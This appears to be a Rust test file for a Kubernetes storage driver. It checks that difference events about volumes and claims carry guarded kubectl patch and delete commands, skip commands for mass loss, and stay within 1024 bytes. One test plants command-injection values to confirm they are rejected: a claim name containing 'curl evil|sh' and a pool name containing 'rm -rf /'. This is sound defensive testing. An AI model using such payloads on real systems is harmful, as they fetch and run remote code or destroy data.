//! The commands in the events of differences.

use objects::inventory::{Inventory, PoolInventory};
use objects::{PoolName, SnapshotName, VolumeName};

use super::comparing::{agreeing, item};
use super::lost::pool;
use super::*;
use crate::answer::Page;
use crate::compare::compare;

const UID: &str = "5c1f0a52-6a7c-4b7e-8f06-1f2f3a4b5c6d";
const OTHER_UID: &str = "0b0e7d6a-1f0e-4d36-9d8c-6f1f4d3c2b1a";
const PV_UID: &str = "9d3b8f0e-2c4a-4e6f-8a1b-3c5d7e9f0a2b";

/// A change of the world, and what the event about the volume `pv` then has.
type Said = (&'static str, fn(&mut World), &'static str);
/// A change of the world, and the beginnings of the notes by node.
type Notes = (
    &'static str,
    fn(&mut World),
    &'static [(&'static str, &'static str)],
);

/// [`agreeing`] without the volume `pv` on its node, and with uids as the API server gives them.
fn gone() -> World {
    let mut world = agreeing();
    world.on_page(|page| page.pools[0].volumes.clear());
    world.its_claim(UID, "pv");
    world.bound_to(json!({}));
    world
}

/// `agreeing`, in which [`OTHER`] has the pool of [`HERE`] too.
fn twice() -> World {
    let mut world = agreeing();
    let id = world.pool;
    world.page(OTHER, |page| page.pools[0].found = Some(id));
    world
}

impl World {
    /// The claim `data-db-0`, which may be another one than the volume had.
    fn its_claim(&mut self, uid: &str, volume: &str) {
        self.claim(json!({"metadata": {"name": "data-db-0", "uid": uid},
            "spec": {"volumeName": volume, "dataSourceRef": null}, "status": {"phase": "Bound"}}));
    }

    /// The volume `pv` of the claim `data-db-0`, with other fields.
    fn bound_to(&mut self, other: Value) {
        let mut fields = json!({"metadata": {"uid": PV_UID}, "spec": {"claimRef": {"uid": UID}}});
        merge(&mut fields, other);
        self.pv(fields);
    }

    /// This many more volumes of [`HERE`]: `more-0` and so on.
    fn more(&mut self, count: usize) {
        for number in 0..count {
            let (pool, name) = (self.pool, format!("more-{number}"));
            self.volume(&name, pool, HERE, &name);
        }
    }

    fn notes(&self) -> Vec<(String, String)> {
        let look = self.observe();
        look.iter()
            .map(|found| (found.node.clone(), found.report.to_string()))
            .collect()
    }

    /// The note of the event about the volume `pv`.
    fn said(&self, claims_watched: bool) -> String {
        let found = compare(&self.objects(), &self.view, claims_watched);
        let mut found = found.values().filter(|found| found.object == "pv");
        found.next().unwrap().report.to_string()
    }
}

fn deletion(uid: &str, path: &str) -> String {
    let retain = format!(
        r#"`kubectl patch pv pv --type=json -p '[{{"op":"test","path":"/metadata/uid","value":"{PV_UID}"}},{{"op":"replace","path":"/spec/persistentVolumeReclaimPolicy","value":"Retain"}}]'"#
    );
    format!(
        r#"{retain} && echo '{{"apiVersion":"v1","kind":"DeleteOptions","preconditions":{{"uid":"{uid}"}}}}' | kubectl delete --raw {path} -f -`"#
    )
}

/// Proves: F15.
#[test]
fn a_claim_is_removed_only_if_it_is_bound_to_the_volume_without_data() {
    let claim = deletion(
        UID,
        "/api/v1/namespaces/shop/persistentvolumeclaims/data-db-0",
    );
    let volume = deletion(PV_UID, "/api/v1/persistentvolumes/pv");
    let world = gone();
    assert!(world.said(true).contains(&claim), "{}", world.said(true));
    let unseen: [Case; 3] = [
        ("another claim has its name", |w| {
            w.its_claim(OTHER_UID, "pv-new");
        }),
        ("the claim is bound to another volume", |w| {
            w.its_claim(UID, "pv-new");
        }),
        ("the claim is not there", |w| w.view.claims.clear()),
    ];
    for (case, change) in unseen {
        let mut world = gone();
        change(&mut world);
        let said = world.said(true);
        assert!(
            said.contains("its claim is not seen") && !said.contains('`'),
            "{case}: {said}"
        );
    }
    let others: [Case; 2] = [
        ("the volume is released", |w| {
            w.bound_to(json!({"status": {"phase": "Released"}, "spec": {"persistentVolumeReclaimPolicy": "Retain"}}));
        }),
        ("the volume has no claim", |w| {
            w.bound_to(json!({"status": {"phase": "Available"}, "spec": {"claimRef": null}}));
        }),
    ];
    for (case, change) in others {
        let mut world = gone();
        change(&mut world);
        let said = world.said(true);
        assert!(
            said.contains(&volume) && !said.contains("claims/"),
            "{case}: {said}"
        );
    }
    // Without a watch of claims, the phase decides, and the uid in the command.
    let mut world = gone();
    world.view.claims.clear();
    assert!(world.said(false).contains(&claim));
    world.bound_to(json!({"status": {"phase": "Released"}, "spec": {"persistentVolumeReclaimPolicy": "Retain"}}));
    assert!(world.said(false).contains(&volume));
}

/// Proves: F15.
#[test]
fn a_name_without_its_grammar_is_in_no_command() {
    let mut world = gone();
    world.bound_to(json!({"spec": {"claimRef": {"name": "a b; curl evil|sh #\n"}}}));
    let said = world.said(false);
    assert!(!said.contains("curl") && !said.contains('`'), "{said}");
    let why = "because its name has characters that no name of a PersistentVolumeClaim has";
    assert!(said.contains(why), "{said}");
    let Ok(inventory) = &world.view.pages[HERE].answer else {
        panic!("the page answers");
    };
    let text = serde_json::to_string(inventory).unwrap();
    assert!(serde_json::from_str::<Inventory>(&text).is_ok());
    let forged = text.replace("\"default\"", "\"a; rm -rf /\"");
    assert!(serde_json::from_str::<Inventory>(&forged).is_err());
}

/// Proves: F12.
#[test]
fn many_missing_volumes_get_no_command() {
    let cases: [Said; 5] = [
        (
            "two of three",
            |w| {
                w.more(2);
                let there = item::<VolumeId, VolumeName>(w.pool, "more-0");
                w.on_page(|page| page.pools[0].volumes = vec![there]);
            },
            "remove the object (`",
        ),
        (
            "three of three",
            |w| w.more(2),
            "3 of the 3 volumes of the node",
        ),
        (
            "all of eleven",
            |w| w.more(10),
            "11 of the 11 volumes of the node",
        ),
        (
            "kept",
            |w| {
                w.more(10);
                let kept = item::<VolumeId, VolumeName>(w.pool, "pv");
                w.on_page(|page| page.pools[0].kept = vec![kept]);
            },
            "kubectl exec -n rootcellar-system rootcellar-x -c driver -- /rootcellar volume undelete",
        ),
        (
            "a retired pool",
            |w| {
                w.more(10);
                let id = w.pool;
                w.on_page(|page| {
                    page.pools = vec![pool(Some(PoolId::random()))];
                    page.retired = vec![id];
                });
            },
            "remove the object (`",
        ),
    ];
    for (case, change, part) in cases {
        let mut world = gone();
        change(&mut world);
        let said = world.said(true);
        assert!(said.contains(part), "{case}: {said}");
        assert_eq!(
            said.contains("delete --raw"),
            part.ends_with("(`"),
            "{case}: {said}"
        );
    }
}

/// Proves: F12.
#[test]
fn many_volumes_without_objects_get_the_command_that_makes_objects() {
    for (all, lack, many) in [(3, 2, false), (3, 3, true), (30, 3, false), (29, 3, true)] {
        let mut world = agreeing();
        world.view.volumes.remove("pv");
        world.view.contents.remove("content");
        let id = world.pool;
        world.on_page(|page| {
            let names = (0..all - 2).map(|number| format!("more-{number}"));
            page.pools[0]
                .volumes
                .extend(names.map(|name| item::<VolumeId, VolumeName>(id, &name)));
        });
        world.more(all - 2);
        if lack >= 3 {
            world.view.volumes.remove("more-0");
        }
        let notes = world.notes();
        assert_eq!(notes.len(), lack, "{notes:?}");
        for (_, note) in notes {
            let part = format!("{lack} of the {all} volumes and snapshots");
            assert_eq!(note.contains(&part), many, "{note}");
            assert_eq!(note.contains("manifest --all"), many, "{note}");
            assert_eq!(note.contains(" delete "), !many, "{note}");
        }
    }
}

/// Proves: F12.
#[test]
fn snapshots_without_a_list_of_contents_are_not_alone() {
    let mut world = agreeing();
    world.view.contents.clear();
    let mut objects = world.objects();
    assert_eq!(compare(&objects, &world.view, true).len(), 1);
    objects.named_snapshots = None;
    assert!(compare(&objects, &world.view, true).is_empty());
}

/// Proves: F12.
#[test]
fn the_node_that_the_volumes_name_does_not_have_the_copy() {
    let cases: [Notes; 4] = [
        (
            "of this node",
            |_| {},
            &[(
                OTHER,
                "pool default is a copy of a disk that node node1 has",
            )],
        ),
        (
            "of the other node",
            |w| w.volume("pv", w.pool, OTHER, "source"),
            &[(HERE, "pool default is a copy of a disk that node node2 has")],
        ),
        (
            "of both",
            |w| w.volume("second", w.pool, OTHER, "x"),
            &[
                (HERE, "node node2 has the disk of pool default too"),
                (OTHER, "node node1 has the disk of pool default too"),
            ],
        ),
        (
            "of none",
            |w| w.view.volumes.clear(),
            &[
                (HERE, "node node2 has the disk of pool default too"),
                (OTHER, "node node1 has the disk of pool default too"),
            ],
        ),
    ];
    for (case, change, expected) in cases {
        let mut world = twice();
        change(&mut world);
        let mut notes = world.notes();
        notes.retain(|(_, note)| note.contains("pool default") && !note.starts_with("volume"));
        assert_eq!(notes.len(), expected.len(), "{case}: {notes:?}");
        for ((node, note), (at, begin)) in notes.iter().zip(expected) {
            assert!(
                node == at && note.starts_with(*begin),
                "{case}: {node}: {note}"
            );
            assert_eq!(note.contains("format"), begin.starts_with("pool"), "{note}");
            assert!(!note.contains(&world.pool.to_string()), "{note}");
        }
    }
}

/// Proves: F12.
#[test]
fn a_difference_is_not_repeated_about_another_object() {
    let mut world = gone();
    world.settings.functions.steer = false;
    world.settings.functions.label = false;
    world.view.differences = world.observe();
    world.view.compared = Some(world.now);
    assert_eq!(world.steps(), ["PersistentVolumeWithoutVolume"]);
    let again = |world: &mut World| world.after(31 * 60).steps();
    assert_eq!(again(&mut world), ["PersistentVolumeWithoutVolume"]);
    world.bound_to(json!({"metadata": {"uid": OTHER_UID}}));
    assert!(again(&mut world).is_empty());
    world.bound_to(json!({}));
    assert_eq!(again(&mut world), ["PersistentVolumeWithoutVolume"]);
    world
        .view
        .drop_old_differences(world.now, &world.settings.delays);
    assert!(
        world.view.differences.is_empty(),
        "no comparison was good since"
    );
    let mut world = gone();
    world.view.differences = world.observe();
    world.view.compared = Some(world.now);
    world.after(29 * 60);
    world
        .view
        .drop_old_differences(world.now, &world.settings.delays);
    assert_eq!(world.view.differences.len(), 1);
}

/// An event has at most 1024 bytes.
///
/// The note about a release of a volume that does not go on.
fn kept_release(name: &str) -> String {
    let mut world = gone();
    let metadata = json!({"name": name, "annotations": {"rootcellar.dev/released-claim": UID}});
    world.bound_to(
        json!({"metadata": metadata, "spec": {"persistentVolumeReclaimPolicy": "Retain"}}),
    );
    world.settings.functions.release = true;
    world.view.pages_read = true;
    let steps = world.due().steps;
    let reports = steps.iter().filter_map(|step| step.report.as_ref());
    let mut kept = reports.filter(|report| report.reason() == "ReleaseKept");
    kept.next().unwrap().to_string()
}

/// Proves: F15.
#[test]
fn data_of_a_release_goes_only_with_its_claim() {
    let note = kept_release("pv");
    let claim = format!(r#"{{"op":"test","path":"/spec/claimRef/uid","value":"{UID}"}}"#);
    let phase = r#"{"op":"test","path":"/status/phase","value":"Bound"}"#;
    assert!(note.contains(&claim) && note.contains(phase), "{note}");
    let long = kept_release(&"n".repeat(253));
    assert!(!long.contains("kubectl") && long.len() <= 1024, "{long}");
}

/// Proves: F12.
#[test]
fn the_longest_notes_fit_into_an_event() {
    let mut world = agreeing();
    let long = "n".repeat(63);
    let key = (long.clone(), long.clone());
    let first = world.view.pods.keys().next().unwrap().clone();
    let pod = world.view.pods.remove(&first).unwrap();
    world.view.pods.insert(key, pod);
    world.view.volumes.clear();
    world.view.contents.clear();
    let name = format!("{long}/{long}");
    world.on_page(|page| page.pools[0].name = PoolName::of_any(&name).unwrap());
    let mut notes = world.notes();
    assert_eq!(notes.len(), 2);
    let id = world.pool;
    world.on_page(|page| {
        let names = (0..9).map(|number| format!("more-{number}"));
        page.pools[0]
            .snapshots
            .extend(names.map(|name| item::<SnapshotId, SnapshotName>(id, &name)));
    });
    notes.extend(world.notes());
    let mut world = gone();
    let long = "n".repeat(253);
    world.bound_to(json!({"spec": {"claimRef": {"name": long, "namespace": "n".repeat(63)}}}));
    let said = world.said(false);
    assert!(
        said.contains("too long for a command") && said.len() <= 1024,
        "{said}"
    );
    world.bound_to(
        json!({"spec": {"claimRef": {"name": "n".repeat(100), "namespace": "n".repeat(63)}}}),
    );
    notes.push((String::new(), world.said(false)));
    notes.push((
        String::new(),
        kept_release("pvc-0b0e7d6a-1f0e-4d36-9d8c-6f1f4d3c2b1a"),
    ));
    for (_, note) in notes {
        assert!(
            note.contains("kubectl") && note.len() <= 1024,
            "{}: {note}",
            note.len()
        );
    }
}

/// Proves: F12.
#[test]
fn a_retired_disk_that_another_node_may_have_is_not_missing() {
    for (case, change) in [
        (
            "does not answer",
            (|w| {
                let silent = Page::new(w.now, Err("does not answer".into()));
                w.view.pages.insert(OTHER.into(), silent);
            }) as fn(&mut World),
        ),
        ("shows the disk, which it cannot use", |w| {
            let id = w.pool;
            w.page(OTHER, |page| {
                page.pools[0] = PoolInventory {
                    unavailable: Some("it is cold".into()),
                    complete: false,
                    ..pool(Some(id))
                };
            });
        }),
    ] {
        let mut world = gone();
        let id = world.pool;
        world.on_page(|page| {
            page.retired = vec![id];
            page.pools.clear();
        });
        assert!(!world.notes().is_empty());
        change(&mut world);
        assert!(world.notes().is_empty(), "{case}: {:?}", world.notes());
    }
}

/// Proves: F12.
#[test]
fn few_volumes_of_each_node_may_be_many_in_all() {
    let mut world = agreeing();
    world.view.volumes.clear();
    world.view.contents.clear();
    world.page(OTHER, |page| {
        let of_pool = PoolId::random();
        page.pools = vec![pool(Some(of_pool))];
        page.pools[0].volumes = vec![item::<VolumeId, VolumeName>(of_pool, "elsewhere")];
    });
    let notes = world.notes();
    assert_eq!(notes.len(), 3, "{notes:?}");
    assert!(
        notes.iter().all(|(_, note)| !note.contains("delete")),
        "{notes:?}"
    );
}
